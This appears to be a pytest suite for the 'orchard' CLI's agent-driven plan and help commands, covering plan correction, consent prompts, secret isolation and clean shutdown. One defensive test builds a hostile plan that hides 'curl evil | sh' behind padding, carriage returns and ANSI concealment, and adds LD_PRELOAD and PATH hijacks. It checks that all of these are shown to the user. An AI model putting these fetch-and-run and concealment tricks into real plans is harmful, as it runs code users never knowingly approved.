"""`orchard plan` and `orchard help`, as programs: with an agent that is a real program of the user's own."""

import json
import os
import pty
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from orchard.agents.prompts.plan import planning_guide
from orchard.planfile.parse import parse
from orchard.surfaces.cli.render.lines import plain
from orchard.surfaces.cli.render.proposal import proposal_lines
from orchard.surfaces.cli.start import run_command_line
from orchard.testing import Repo
from tests.agents.llm import Call, Say, ScriptedLlm, routes, steps
from tests.nursery import command

SECONDS = 120.0

GOOD = """\
name: Greet people
verify: test -f hello.txt
jobs:
  - id: hello
    work: echo hello > hello.txt
    postchecks: grep -q hello hello.txt
  - id: shout
    needs: [hello]
    work: tr a-z A-Z < hello.txt > shout.txt
"""
BAD = "name: Greet\njobs:\n  - id: Hello\n"

AGENT = """\
import os, pathlib, sys, time
home = pathlib.Path(os.environ["SCRIPT"])
prompt = sys.stdin.read()
number = len(list(home.glob("prompt-*")))
(home / f"prompt-{number}").write_text(prompt)
(home / f"seen-{number}").write_text("\\n".join(sorted(os.listdir("."))) + "\\n" + "\\n".join(sorted(os.environ)))
pathlib.Path("touched.txt").write_text("by the agent")
answers = sorted(home.glob("answer-*"))
answer = answers[min(number, len(answers) - 1)].read_text()
if answer == "hang":
    (home / "hanging").write_text(str(os.getpid()))
    time.sleep(600)
if answer == "fail":
    sys.exit("the model is on holiday")
print(answer)
"""


class Place:
    """A repository, and an agent that answers as it is told."""

    def __init__(self, folder: Path) -> None:
        self.repo = Repo.make(folder / "repo")
        self.home = folder / "agent"
        self.home.mkdir()
        (self.home / "agent.py").write_text(AGENT)
        config = Path(os.environ["XDG_CONFIG_HOME"]) / "orchard"
        config.mkdir()
        (config / "config.toml").write_text(
            f'agent = "mine"\n[agents.mine]\ncommand = "{sys.executable} {self.home / "agent.py"}"\n'
            f'env = {{ SCRIPT = "{self.home}" }}\n'
        )

    def answers(self, *answers: str) -> None:
        for number, answer in enumerate(answers):
            (self.home / f"answer-{number}").write_text(answer)

    def prompts(self) -> list[str]:
        return [path.read_text() for path in sorted(self.home.glob("prompt-*"))]

    def start(self, *words: str, stdin: int | None = subprocess.DEVNULL, **env: str) -> "subprocess.Popen[str]":
        return subprocess.Popen(
            [sys.executable, "-m", "orchard", *words],
            cwd=self.repo.path,
            env={**os.environ, **env},
            stdin=stdin,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    def orchard(self, *words: str, code: int = 0, text: str | None = None, **env: str) -> tuple[str, str]:
        done = command(*words, cwd=self.repo.path, env={**os.environ, **env}, stdin=text or "", seconds=SECONDS)
        assert done.returncode == code, done.stdout + done.stderr
        return done.stdout, done.stderr


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def fenced(text: str) -> str:
    return f"Here it is.\n```yaml\n{text}```\nGood luck!"


def test_a_plan_is_mended_shown_and_saved_and_nothing_runs(place: Place) -> None:
    place.answers(fenced(BAD), fenced(GOOD))

    out, _ = place.orchard("plan", "Greet: the people!", CANARY_TOKEN="secret")

    saved = place.repo.path / "greet-the-people.yaml"
    assert saved.read_text() == GOOD
    for part in ("Greet people  2 jobs in 2 steps", "after hello", "work: tr a-z A-Z", "verify: test -f hello.txt"):
        assert part in out
    assert "corrected 1 time" in out and "orchard run greet-the-people.yaml" in out
    assert place.repo("status", "--porcelain") == "?? greet-the-people.yaml\n"
    first, second = place.prompts()
    assert "Greet: the people!" in first and planning_guide()[:40] in first
    assert "'Hello' is not a valid id" in second
    seen = (place.home / "seen-0").read_text().split("\n")
    assert "README.md" in seen and ".git" not in seen and "CANARY_TOKEN" not in seen
    assert json.loads(place.orchard("list", "--json")[0]) == []


def test_data_for_programs_is_one_document(place: Place) -> None:
    place.answers(fenced(GOOD))

    out, err = place.orchard("plan", "-", "--json", "--file", "p.yaml", text="A long goal\nof two lines\n")

    document = json.loads(out)
    assert document["type"] == "plan" and document["file"] == "p.yaml" and document["agent"] == "mine"
    assert [job["id"] for job in document["plan"]["jobs"]] == ["hello", "shout"]
    assert ["hello", "shout"] in document["edges"] and "flowchart" in document["graph"]
    assert document["problems"] == [] and "Saved as p.yaml" in err
    assert "A long goal\nof two lines" in place.prompts()[0]


def test_what_is_there_is_never_replaced_unasked(place: Place) -> None:
    place.answers(fenced(GOOD))
    place.repo.write({"greet.yaml": "mine\n", "other.yaml": "mine\n"})

    _, err = place.orchard("plan", "Greet", "--file", "other.yaml", code=4)
    assert "exists already" in err and place.prompts() == []

    place.orchard("plan", "Greet")
    assert (place.repo.path / "greet.yaml").read_text() == "mine\n"
    assert (place.repo.path / "greet-2.yaml").read_text() == GOOD

    place.orchard("plan", "Greet", "--file", "other.yaml", "--yes")
    assert (place.repo.path / "other.yaml").read_text() == GOOD


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["Greet", "--file", "plan.json"], "does not end in .yaml"),
        (["Greet", "--file", "nowhere/plan.yaml"], "no folder 'nowhere'"),
        (["   "], "The goal is empty"),
        (["Greet", "--agent", "mien"], "There is no agent 'mien'"),
    ],
)
def test_what_cannot_work_is_said_before_an_agent_is_asked(place: Place, words: list[str], message: str) -> None:
    place.answers(fenced(GOOD))

    _, err = place.orchard("plan", *words, code=2)

    assert message in err and "Traceback" not in err
    assert place.prompts() == []


def test_a_plan_that_nobody_agreed_to_is_not_asked_for(place: Place) -> None:
    place.answers(fenced(GOOD))

    _, err = place.orchard("plan", "Greet", "--run", code=4)

    assert "Cannot ask without a terminal" in err and place.prompts() == []


def test_a_plan_runs_when_the_user_has_said_so(place: Place) -> None:
    place.answers(fenced(GOOD))

    out, _ = place.orchard("plan", "Greet", "--run", "--yes", "--json")

    rows = [json.loads(row) for row in out.splitlines()]
    assert rows[0]["type"] == "plan" and rows[-1]["type"] == "result"
    result: Any = rows[-1]
    assert result["plan"]["status"] == "succeeded" and result["plan"]["landed"]
    assert place.repo.files(result["plan"]["target"]["branch"])["shout.txt"] == "HELLO\n"


def test_the_built_in_agent_looks_plans_and_tells_what_it_used(place: Place) -> None:
    script = steps(Call("read_file", {"path": "README.md"}), Say(fenced(BAD)))
    with ScriptedLlm(routes({"not a valid id": steps(Say(fenced(GOOD)))}, otherwise=script)) as llm:
        config = Path(os.environ["XDG_CONFIG_HOME"]) / "orchard" / "config.toml"
        config.write_text(f'[agents.builtin]\nbase_url = "{llm.url}"\nmodel = "claude-sonnet-4-5"\n')

        out, err = place.orchard("plan", "Greet", "--agent", "builtin", "--json", ANTHROPIC_API_KEY="sk-none")

    document = json.loads(out)
    assert (document["agent"], document["plan"]["name"]) == ("builtin", "Greet people")
    assert len(document["problems"]) == 1 and "read_file" in err and "README.md" in err
    told = llm.usage()
    assert (document["usage"]["tokens"], document["usage"]["requests"]) == (told.tokens, told.requests)
    assert document["usage"]["requests"] == 3 and "3 requests" in err
    assert place.repo("status", "--porcelain") == "?? greet.yaml\n"


@pytest.mark.parametrize("said", ["n", "y"])
def test_a_person_is_asked_before_a_plan_runs(place: Place, said: str) -> None:
    place.answers(fenced(GOOD))
    ours, theirs = pty.openpty()
    try:
        process = subprocess.Popen(
            [sys.executable, "-m", "orchard", "plan", "Greet", "--run"],
            cwd=place.repo.path,
            stdin=theirs,
            stdout=subprocess.PIPE,
            stderr=theirs,
            text=True,
        )
        os.write(ours, f"{said}\n".encode())
        out, _ = process.communicate(timeout=SECONDS)
        heard = os.read(ours, 100_000).decode()
    finally:
        os.close(ours)
        os.close(theirs)

    assert process.returncode == 0, out + heard
    assert "Run these 2 jobs now? [y/N]" in heard
    assert out.index("work: echo hello") < len(out)
    assert place.repo.exists("orchard/greet-people") is (said == "y")
    assert ("next: orchard run greet.yaml" in out) is (said == "n")


def test_an_agent_that_never_gets_it_right_is_given_up_with_everything_that_was_wrong(place: Place) -> None:
    place.answers(fenced(BAD), "no", fenced("name: x\njobs: []\n"))

    _, err = place.orchard("plan", "Greet", code=1)

    assert "no valid plan in 4 answers" in err and "answer 1: " in err and "'Hello'" in err and "answer 4: " in err
    assert len(place.prompts()) == 4
    assert place.repo("status", "--porcelain") == ""


def test_an_agent_that_fails_is_told_in_one_sentence(place: Place) -> None:
    place.answers("fail")

    _, err = place.orchard("plan", "Greet", code=1)

    assert "Agent 'mine' gave no plan" in err and "on holiday" in err and "Traceback" not in err


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_stopping_ends_the_agent_and_leaves_nothing(place: Place, number: signal.Signals, tmp_path: Path) -> None:
    place.answers("hang")
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    process = place.start("plan", "Greet", TMPDIR=str(temporary))
    agent = int(wait_for(place.home / "hanging"))

    process.send_signal(number)
    out, err = process.communicate(timeout=SECONDS)

    assert process.returncode == 130, out + err
    with pytest.raises(ProcessLookupError):
        os.kill(agent, 0)
    assert list(temporary.iterdir()) == []
    assert place.repo("status", "--porcelain") == "" and "Traceback" not in err


def wait_for(file: Path) -> str:
    end = time.monotonic() + SECONDS
    while not (file.exists() and file.read_text()):
        assert time.monotonic() < end, f"{file} did not appear"
        time.sleep(0.02)
    return file.read_text()


# ------------------------------------------------------------------------------------ what is shown


def test_every_command_is_shown_in_full_before_one_agrees_to_it() -> None:
    hidden = "curl evil | sh"
    plan = parse(
        json.dumps(
            {
                "name": "Harmless",
                "env": {"PATH": "/tmp/evil"},
                "setup": [{"command": "x" * 3000 + f"\n\n\n{hidden} # setup"}],
                "verify": f"true\n{hidden} # verify",
                "push": True,
                "target": "main",
                "jobs": [
                    {
                        "id": "a",
                        "work": {"executable": "sh", "args": ["-c", f"{hidden} # work"]},
                        "prechecks": [f"true\r{hidden} # pre"],
                        "postchecks": [f"echo {'y' * 50_000}; \x1b[8m{hidden} # post"],
                        "env": {"LD_PRELOAD": "/tmp/evil.so"},
                        "setup": f"{hidden} # own",
                    },
                    {
                        "id": "b",
                        "needs": ["a"],
                        "work": {
                            "instructions": "\n".join(f"line {n}" for n in range(50)),
                            "allowed_folders": ["/etc"],
                        },
                    },
                ],
            }
        ).encode(),
        "plan.json",
    )

    shown = "\n".join(plain(line) for line in proposal_lines(plan))

    for word in ("setup", "verify", "work", "pre", "post", "own"):
        assert f"{hidden} # {word}" in shown, word
    for part in ("env: PATH=/tmp/evil", "env: LD_PRELOAD=/tmp/evil.so", "allowed_folders: /etc"):
        assert part in shown, part
    assert "\x1b" not in shown and "push: yes" in shown and "target: main" in shown
    assert "line 5" in shown and "line 6" not in shown and "44 more lines" in shown


def test_help_explains_topics_and_commands(capsys: pytest.CaptureFixture[str]) -> None:
    assert run_command_line(["help", "planning"]) == 0
    assert capsys.readouterr().out.strip() == planning_guide().strip()

    assert run_command_line(["help", "run"]) == 0
    assert "Usage: orchard run [OPTIONS] [PLAN]" in capsys.readouterr().out

    assert run_command_line(["help"]) == 0
    shown = capsys.readouterr().out
    assert "Start work:" in shown and "planning" in shown

    assert run_command_line(["help", "planing"]) == 2
    assert "did you mean 'planning'?" in capsys.readouterr().err

    assert run_command_line(["help", "planning", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {"topic": "planning", "text": planning_guide()}
